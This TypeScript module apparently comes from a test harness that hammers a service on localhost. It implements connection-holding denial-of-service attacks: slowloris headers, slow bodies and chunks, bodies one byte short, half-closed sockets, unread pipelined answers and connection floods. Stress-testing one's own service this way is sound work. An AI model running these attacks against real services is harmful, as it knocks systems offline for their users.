import { Attack, Attacker } from './attacker';
import { Foothold } from './target';

/** Options of a client that does not close its side when the service closes its own. */
const STUBBORN = { allowHalfOpen: true };
/** Requests with which connections are held, without a session or a key. */
export interface HeldRequests {
  /** Path of a read. */
  get: string;
  /** Path that takes JSON of this many bytes. */
  post: { path: string; bytes: number };
  /** Path that takes the largest body. */
  large: { path: string; bytes: number };
  /** Path of a long answer. */
  page: string;
}

const headOf = ({ get }: HeldRequests) => `GET ${get} HTTP/1.1\r\nHost: localhost\r\n`;
const postOf = ({ post }: HeldRequests) =>
  `POST ${post.path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n`;
/**
 * Number of requests on a connection whose answers are not read. These exceed the system's socket buffers.
 */
const UNREAD_REQUESTS = 200;

async function slowHeads(attacker: Attacker<unknown>, held: HeldRequests): Promise<void> {
  const connections = await attacker.open(attacker.sizes.connections, STUBBORN);
  for (const connection of connections) connection.send(`${headOf(held)}X-Slow: `);
  await attacker.drip(connections, 'x');
}

async function slowBodies(attacker: Attacker<unknown>, held: HeldRequests): Promise<void> {
  const connections = await attacker.open(attacker.sizes.connections, STUBBORN);
  for (const connection of connections)
    connection.send(`${postOf(held)}Content-Length: ${held.post.bytes}\r\n\r\n{"body":"`);
  await attacker.drip(connections, 'x');
}

async function slowChunks(attacker: Attacker<unknown>, held: HeldRequests): Promise<void> {
  const connections = await attacker.open(attacker.sizes.connections, STUBBORN);
  for (const connection of connections) connection.send(`${postOf(held)}Transfer-Encoding: chunked\r\n\r\n`);
  await attacker.drip(connections, '1\r\nx\r\n');
}

/** Sends bodies that lack the last byte of the largest body that the service takes. */
async function unfinishedBodies(attacker: Attacker<unknown>, held: HeldRequests): Promise<void> {
  const connections = await attacker.open(attacker.sizes.heavyConnections, STUBBORN);
  const { path, bytes } = held.large;
  const unfinished = Buffer.alloc(bytes - 1, ' ');
  for (const connection of connections) {
    connection.send(
      `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${bytes}\r\n\r\n`,
    );
    connection.send(unfinished);
  }
  await attacker.untilAnswered(connections);
}

/**
 * Closes the client's side of connections: a third within the head, a third within the body, a third after a
 * whole request.
 */
async function halfClosed(attacker: Attacker<unknown>, held: HeldRequests): Promise<void> {
  const connections = await attacker.open(attacker.sizes.connections, STUBBORN);
  const requests = [
    headOf(held),
    `${postOf(held)}Content-Length: 100\r\n\r\n{"body":`,
    `${headOf(held)}\r\n`,
  ];
  connections.forEach((connection, n) => {
    connection.send(requests[n % requests.length]!);
    connection.halfClose();
  });
  await attacker.untilAnswered(connections);
}

async function unreadAnswers(attacker: Attacker<unknown>, held: HeldRequests): Promise<void> {
  const connections = await attacker.open(attacker.sizes.heavyConnections, STUBBORN);
  const request = `GET ${held.page} HTTP/1.1\r\nHost: localhost\r\n\r\n`;
  for (const connection of connections) {
    connection.stopReading();
    connection.send(request.repeat(UNREAD_REQUESTS));
  }
}

async function manySilent(attacker: Attacker<unknown>): Promise<void> {
  await attacker.open(attacker.sizes.manyConnections, STUBBORN);
}

async function manyIdle(attacker: Attacker<unknown>, held: HeldRequests): Promise<void> {
  const connections = await attacker.open(attacker.sizes.manyConnections);
  for (const connection of connections) connection.send(`${headOf(held)}\r\n`);
  await attacker.untilAnswered(connections);
}

const ATTACKS = {
  'slow heads': slowHeads,
  'slow bodies': slowBodies,
  'slow chunks': slowChunks,
  'bodies one byte short': unfinishedBodies,
  'half-closed': halfClosed,
  'unread answers': unreadAnswers,
  'many, silent': manySilent,
  'many, idle after an answer': manyIdle,
};

/** Makes the attacks that hold connections. */
export function connectionAttacks<Means>(
  heldBy: (attacker: Attacker<Means>) => HeldRequests,
): Attack<Means>[] {
  return Object.entries(ATTACKS).map(([name, run]) => ({
    name: `connections: ${name}`,
    run: (attacker) => run(attacker, heldBy(attacker)),
  }));
}

export const CONNECTIONS = connectionAttacks<Foothold>(({ foothold }) => ({
  get: '/api/v1/me',
  post: { path: '/api/v1/conversations/x/messages', bytes: 100_000 },
  large: { path: foothold.hookPath, bytes: 3 * 1024 * 1024 },
  page: '/api/v1/openapi.json',
}));
